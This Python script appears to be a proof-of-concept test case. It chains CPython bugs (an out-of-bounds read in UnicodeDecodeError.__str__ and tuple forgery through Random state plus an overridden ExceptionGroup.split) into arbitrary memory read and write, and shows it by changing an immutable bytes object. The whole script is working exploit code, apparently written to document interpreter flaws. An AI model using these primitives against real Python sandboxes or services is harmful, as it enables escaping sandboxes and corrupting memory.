# technique: chain of 03 and 04: UnicodeDecodeError.__str__ reads any address (repr gives an object's address), then a Random whose state words hold (fake bytearray address, None address) is returned from split(); except* binds a fake bytearray spanning all memory: arbitrary read/write (here: an immutable bytes object is changed)
# expect: any
import random

# absolute reads: UnicodeDecodeError.__str__ on an object whose "size" word is a pointer
class U:
    __slots__ = ('a', 'b', 'c')
u = U()
u.a = u
UA = int(repr(u).split(' at ')[1][:-1], 16)
e = UnicodeDecodeError("utf-8", b"x", 0, 1, "r")
e.object = u

def rb(addr):
    off = addr - (UA + 32)
    e.start = off
    e.end = off + 1
    return int(str(e).split("byte 0x")[1][:2], 16)

def rq(addr):
    return int.from_bytes(bytes(rb(addr + i) for i in range(8)), "little")

def addr_of(obj):
    u.c = obj                                   # slot c is at u + 32: the "payload" read above
    return rq(UA + 32)

NONE = addr_of(None)
BYTEARRAY_TYPE = rq(addr_of(bytearray()) + 8)
p64 = lambda n: n.to_bytes(8, "little")
fake = p64(1 << 40) + p64(BYTEARRAY_TYPE) + p64(1 << 62) + p64(1 << 62) + p64(0) + p64(0) + p64(0)
FAKE = addr_of(fake) + 32                       # a bytearray header in a bytes payload

# a Random's state words sit where a tuple's items would be: (FAKE, None)
r = random.Random()
st = list(r.getstate()[1])
st[1], st[2] = FAKE & 0xffffffff, FAKE >> 32
st[3], st[4] = NONE & 0xffffffff, NONE >> 32
r.setstate((3, tuple(st), None))

eg = ExceptionGroup("x", [ValueError()])
eg.split = lambda *args: r

target = bytes(b"immutable bytes ".strip())   # a fresh object, not the shared constant
TA = addr_of(target)
try:
    raise eg
except* ValueError as mem:                      # a bytearray over the whole address space
    kind = type(mem).__name__
    mem[TA + 32] = ord("X")
if target[:1] != b"i":
    raise RuntimeError("arbitrary write through a forged %s: target is now %r" % (kind, target))
